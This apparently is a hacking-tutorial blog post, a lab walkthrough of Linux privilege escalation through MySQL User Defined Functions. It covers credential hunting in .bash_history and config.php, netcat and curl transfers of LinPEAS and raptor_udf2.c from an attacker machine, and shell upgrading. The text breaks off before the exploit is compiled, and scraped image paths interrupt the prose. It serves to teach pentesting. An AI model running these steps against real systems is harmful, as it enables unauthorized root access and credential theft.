MySQL User Defined Functions – Linux Privilege Escalation

In this post we will learn how to elevate our privileges on a Linux target by abusing User Defined Functions (UDF) in MySQL. By discovering a few bad configuration choices and locating the password to the MySQL database, an attacker can leverage a UDF exploit to elevate from a standard user to root. Let’s see how!

We will start by manually enumerating the necessary conditions for this exploit on a victim Linux host. Next, we will hunt for a password to the database, which we will find two different ways. Then, we will see how we can utilize a great tool called LinPEAS to automagically enumerate all of the conditions for us as well as find the password for us (in both places!). From there, we will access the MySQL database and enumerate some more and find that we definitely have the ability to abuse UDFs on this host. Finally, we will craft the exploit and follow the steps from the comments in the C file to obtain command execution, which will ultimately lead to a root shell.

What are User Defined Functions (UDFs)?

User Defined Functions or UDFs, which is what we will refer to them as for the remainder of this post, are a way to extend MySQL functionality by creating or adding a new function that works like a native (built-in) MySQL function.

By using a UDF, we can create “native” code to be executed on the filesystem from inside MySQL. To do this, we need to write a library (usually C/C++), compile the library into a shared object, place that shared object into the plugin directory, and then create a function in MySQL to execute our shared object file.

As an attacker, we need to break this down and think about how it can be abused. Considering the fact that we are creating a function inside MySQL to execute commands on the filesystem outside of theservice, it should be pretty obvious how we can get malicious with this, especially if we can get command execution as root.

Enumerating a Potential UDF Exploit Opportunity

In this example, we have obtained a foothold on a Linux (Ubuntu 16.04) target as a standard user ‘Juggernaut’.

Since this shell was not created using SSH, the first thing we should to do after obtaining a foothold is upgrade the shell to full TTY (if we can). We can do this using the following set of commands:

python -c 'import pty;pty.spawn("/bin/bash");'
CTRL + Z         #backgrounds netcat session
stty raw -echo
fg               #brings netcat session back to the foreground
export TERM=xterm

Now that we have full TTY, we can use arrows to go through our command history, use tab completion, clear the terminal, and much more.

This step above is important for when you try to access MySQL directly on the victim. If you do not upgrade to full TTY, you will not see the password prompt because it is interactive. That means that without full TTY, the only other option to interact with this service is to perform port forwarding.

With that step out of the way, we can begin focusing on our enumeration. First, we will see how to enumerate the required conditions using the manual method, and then we will use LinPEAS to automatically find all the same information for us. There are quite a few things wewill need to find to determine if this attack is possible, so let’s jump into some manual enumeration first.

Manually Enumerating the Necessary Conditions for a UDF Exploit

There are a few things we need to find in order to determine if MySQL is exploitable using UDFs. The first thing we need to determine is if MySQL is running or not. By default, MySQL runs on port3306 and is assigned to localhost ( This means that the service will only be accessible from the within the target host itself and not available externally. However, if we found that MySQL was externally accessible during the initial nmap scan, then this step has already been completed.

To check if MySQL is running we can use the following netstat command:

netstat -tulpn

This shows us that MySQL is running locally on the target because the Local Address is

Next, we want to find out who the process owner is (who the service is running as). By default this will be the ‘mysql’ service account; however, this can be changed to any user including root, which oftentimes it is for ease of use.

We can check the service owner using the following command:

ps -ef | grep mysql

Amazing! We found that the MySQL service (process) is owned by root. This also let’s us know that if we find access to this database as a super user, as well as a few more misconfigurations within the service itself, we will be able to abuse UDFs to obtain command execution as root!

Alright, we have found that the service is running internally and that it is running as root, so now we need to determine the version that is running.

mysql -V

From this output we are most interested in the ‘Distrib’ number, which in this case is 5.7.34, which is great news for us because the UDF exploit we will be using works on MySQL / MariaDB versions 4.X and 5.X.

This exploit covers MANY versions of MySQL because it does not target a vulnerability in the traditional sense. UDFs are intended functionality and are meant to allow reading / writing on the file system from within MySQL; however, when the MySQL server / process has been misconfigured or altered to allow too much access or “loose permissions”, then we find ourselves in a position where we can exploit this service and elevate our access.

Next, we need to find a way to access the database.To do this, we will need to find credentials that will let us in.

By default the root password for the MySQL server is blank, so the first thing we should try is logging in without a password to see if this is the case. We can try to login as root using the following command:

mysql -u root

This will either let us right in, or it will tell us that access is denied due to not providing a password.

Here we can see that the root account does require a password.

One thing needs to be made clear at this point is that the ‘root’ account for MySQL is simply the super user account for the MySQL service. This is NOT the same as the root account on the filesystem.

Next, we should try the other common default password, which is root backwards or ‘toor’. To prompt us for a password, we need to pass the ‘-p’ flag into the mysql command.

mysql -u root -p

After being prompted for the password, we enter ‘toor’ but that too doesn’t get us in! This means wewill need to start password hunting in hopes that we will find the root password.

Hunting for Database Credentials

There are many places we can look on the filesystem to try and find credentials. Any usernames and/or passwords we find during the initial enumeration and post-exploitation enumeration should be placed into a notepad so that we can try to plug them in anywhere we can.

Additionally, there are a few specific places were we will be MOST likely to find MySQL credentials.

First, we should always be checking the .bash_history file in our current users home directory, as well as any other users home directory that we have access to. This should be one of our first post-exploitation enumeration steps because it can provide a quick and easy win. Also, since we access MySQL from the command-line, this is a very good place to begin our hunt.

cd /home && ls -l

We can see here that we have only one user profile in the /home directory so that’s where we will start.

If there are multiple profiles in here, try to access all of them. You never know what you might find that you have access to… such as another user’s bash history file! Note that we did not see root’s home profile here because the root home profile is located at /root. Also note that bash history files are hidden so they start with a period [ . ] and can be seen by using ls -la

cd juggernaut && cat .bash_historyBOOM! Inside the bash history file we can see the user tried to pass the full credentials directly on the command line to login to MySQL.

root : SuperS3cureP@ssw0rd

The second place where we will commonly find MySQL credentials is in the webroot directory. This is generally located at /var/www and contains the web pages we would have found when fuzzing for sub directories using tools like gobuster or dirb prior to obtaining a foothold.

Most often, we will be looking for config PHPfiles; however, there are many possible file types where we could find database creds including TXT files, bash scripts, other scripts, ZIP files, other compression filetypes (tar, gz, etc.), DB files, and many more.

Navigating to /var/www/, we can see that there are a few files here, but ‘config.php’ stands out most of all.

cd /var/www && ls -l

And when we check the file, we can see that it is used to access the MySQL database as root and shows the cleartext username andpassword.

Now that we have a username and password, we can access the database locally on the victim machine;however, before we do that, let’s see how LinPEAS can enumerate everything we just found automatically.

Using Tools (LinPEAS) to Enumerate the Necessary Conditions for a UDF Exploit

LinPEAS is the ultimate post-exploitation enumeration tool because it provides a HUGE amount of information. After running it on the victim, we will see all of the same things we found with our manual enumeration, and more. However, it was important to show the manual steps before using tools so that we understand the output and what to look for.

If you do not have a copy of LinPEAS, you can grab one here.

Generally when we run LinPEAS, we will run it without parameters to run ‘all checks’ and then comb over all of the output line by line, from top to bottom.

A good trick when running the full scan is to redirect the output of PEAS to a file for quick parsing of common vulnerabilities and keywords using grep.

After grabbing a copy of LinPEAS, we need to transfer a copy onto the victim. We can do this numerous ways, but for this example, we’ll use netcat.

From the directory where is located, we can run the following command on the attacker machine to serve the file up to the victim:

nc -nvlp 443 <

Back on the victim, we need to navigate to a folder where we have write permissions, which isgenerally our home folder, the /tmp folder, or the /dev/shm folder. I personally like /dev/shm, so we will navigate there and then download LinPEAS with the following commands:

cd /dev/shm
nc 443 >

When this is done correctly, we should see the victim check-in to our attacker machine and both prompts will hang. Let it sit for a minute and then kill the prompt on the attacker machine so that it doesn’t kill the shell on the victim.

Here we can see that the victim –, checked in to our attacker machine – After about one minute we can simply just use CTRL + C to kill the session from our attacker machine and free up the prompt again on the victim. After that, we need to check the file on both sides with ls -l to make sure they are the same size (integrity intact), which will indicate the transfer was successful.

Perfect, everything matches! Now we need to give the file execute permissions using either chmod + x or chmod 755.

Alright, all that is left to do is to execute the script and then review the output.


Scrolling down, the first necessary condition we find is that the MySQL process is running as root in the Processes, Crons, Timers, Services and Sockets section.

Scrolling further, we come to the Software Information section wherewe can see the version of MySQL is running as well as a few checks LinPEAS performed to see if the root account is using a blank password or ‘root’ or ‘toor’ as the password. Additionally, we can see a few lines in the configuration files (the secure file priv one is interesting…)

Continuing on, we reach the Interesting Files section where we find web files and config.php stands out.

Further down, we come across interesting history file strings and we find the MySQL credentials much like we did in the .bash_history file.

Just a bit further down, we can see that LinPEAS finds config.php files interesting and has a check dedicated to just that, which in this case happened to dump the credentials for us!

In this case it did not dump the username, but from the ‘db’ part, we can deduce that this is for a DB user. We can also go check the file to be sure since we know this is the config.php file that we just saw earlier in the webroot directory.

Amazing! LinPEAS truly is a beast! It found everything we manually enumerated, including the password for the MySQL root user.

Logging into MySQL to Enumerate Further

Now that we have found the MySQL root user’s username and password, we should login to MySQL and perform further enumeration.mysql -u root -p

When prompted for the password we put in SuperS3cureP@ssw0rd and we gain access to MySQL. When the password is entered correctly, we will be presented with a mysql> prompt.

Since we are the MySQL super user (root), we should have full access with this account; however, we can confirm this with the following command:


This confirms that we have ALL PRIVILEGES, which we expected being root. However, there are times where we may find a non-root accounts credentials for MySQL. When this is the situation, we will want to use SHOW GRANTS; to see what privileges we have. We might even find that the account is not “root” but is still a super user.

We are also interested in knowing what the secure_file_priv location is. Secure file priv is a setting in MySQL that limits where data can be written from / to into MySQL. If this is set to a folder where we do not have write access, all bets are off. We can check this using the following command:


Fortunately for us, we can see that this is blank, which tells us that we can write to / from MySQL from any file location on the system.

Lastly, while we are in here we might as well grab the plugin folder location. This will be important later when we craft our exploit and load it into MySQL.


The plugin folder is where the defaultshared objects are located, and it is the only folder where they can be executed from. This folder is owned by root, but since the MySQL process is running as root, when we execute commands inside MySQL to move our exploit, the commands will be ran as root on the actual filesystem, which will allow us to move the file into a folder owned by root.

Now that we have enumerated MySQL inside-out, we can move on the the next phase of our attack.

Locating, Downloading, and Compiling a UDF Exploit

In this example we are going to be using the raptor_udf2.c UDF exploit, which can be found either by searching exploit-db or GitHub. Fortunately, due to this exploit being on exploit-db, if we are using Kali then thisexploit is already on our system.

Locating a Copy of and Downloading raptor_udf2.c onto the Victim

To locate the UDF exploit we can use a tool called searchsploit with the following syntax:

searchsploit udf

We can see here that there are two UDF exploits that are similar to one another; however, the newer one includes MySQL version 5.x and is the one we will be using here – 1518.c

Moving ahead, we want to copy this into our working directory so that we can have a closer look before we transfer it onto the victim.

When you are hacking a machine, you should create a directory for that machine on our attacker machine to copy over exploits, save our scans, create user/pass text files, etc. This is what I am referring to when I say“working directory”. For example, above you can see I am in the /opt/juggernaut/ubuntu16 directory I created specific for this victim.

To copy or “mirror” the exploit into our current working directory, we can use the -m switch with searchsploit, like so:

searchsploit -m 1518.c

For authenticity sake, let’s rename this exploit raptor_udf2.c and then have a look at the commends using the head command.

mv 1518.c raptor_udf2.c
head -50 raptor_udf2.c

The first comment mentions that this exploit is used for local privilege escalation through MySQL when it is ran as root, which we already found to be the case on our victim.

Next, it shows us how to compile and use the exploit. We will need to make a few changes to the commands for our current machine.

Now that we have found the exploit we are going to use, we need to download this onto the victim. This time to make the transfer, we will setup a quick HTTP server on our attacker machine and then download the exploit onto the victim into the /tmp folder.On the attacker machine, we can setup an HTTP server on port 80 from our working directory with the following command:

python3 -m http.server 80

Back on the victim, we can use either cURL or wget to download the file from out attacker machine. In this example, we will use cURL.

curl -o raptor_udf2.c

Perfect! We have now located and downloaded our exploit onto the victim. Next we need to compile it.

Compiling raptor_udf2.c on the VictimSomething we should have done early in our enumeration is to check if gcc is installed on the victim. Similar to using kernel exploits, if gcc is installed then this will be quite easy to pull off; however, if it is not installed on the victim, we will need to take an extra step and download a VM with a similar kernel and then compile the exploit on that machine before transferring it onto the victim.

There is a few ways to check if gcc is installed on the victim.

First, we can just try to run gcc and see what it says. Either it will say it needs to be installed or it will tell you how to use the command properly. Either way, this will tell us if gcc is on the system or not. At the very least, it tells us if gcc is in our PATH or not.


This error tells us that gcc is installed, which is perfect! With that information, we know that we will be able to compile our exploit directly on the victim.

